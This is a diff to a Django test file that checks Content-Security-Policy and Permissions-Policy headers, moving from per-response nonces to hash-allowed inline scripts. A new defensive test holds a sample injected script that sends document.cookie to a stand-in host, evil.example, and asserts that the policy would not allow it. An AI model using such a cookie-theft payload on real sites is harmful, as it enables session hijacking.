@@ -1,5 +1,6 @@
-"""What a browser is told to refuse: scripts the site did not write (Content-Security-Policy with a nonce
-per response), powerful features no page uses (Permissions-Policy); and admin sessions left idle end."""
+"""What a browser is told to refuse: scripts the site did not write (Content-Security-Policy allowing
+only the hashed inline script), powerful features no page uses (Permissions-Policy); and admin
+sessions left idle end."""
 
 from datetime import timedelta
 from urllib.parse import urlsplit
@@ -12,6 +13,7 @@ from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
 
+from cms.inline_scripts import JS_ENABLED, csp_hash
 from tests.home.conftest import PASSWORD
 
 pytestmark = pytest.mark.django_db
@@ -40,18 +42,18 @@ def test_public_pages_run_only_the_sites_own_scripts(client, path):
     scripts = policy(response)["script-src"]
     assert "'unsafe-inline'" not in scripts
     assert "'unsafe-eval'" not in scripts
-    [nonce] = [source for source in scripts if source.startswith("'nonce-")]
     page = BeautifulSoup(response.content, "html.parser")
     inline = [script for script in page.find_all("script") if not script.get("src")]
     executable = [s for s in inline if s.get("type") not in ("application/json", "application/ld+json")]
     assert executable
-    assert all(f"'nonce-{script.get('nonce')}'" == nonce for script in executable)
+    # Each allowed by its own hash, so the same bytes served from the page cache still run.
+    assert all(csp_hash(script.string) in scripts for script in executable)
 
 
-def test_each_response_gets_a_new_nonce(client):
-    first, second = (policy(client.get("/"))["script-src"] for _ in range(2))
+def test_a_script_edited_in_the_page_would_not_run(client):
+    scripts = policy(client.get("/"))["script-src"]
 
-    assert first != second
+    assert csp_hash(JS_ENABLED + "fetch('https://evil.example/?' + document.cookie);") not in scripts
 
 
 def test_a_script_injected_without_the_nonce_would_not_run(client):
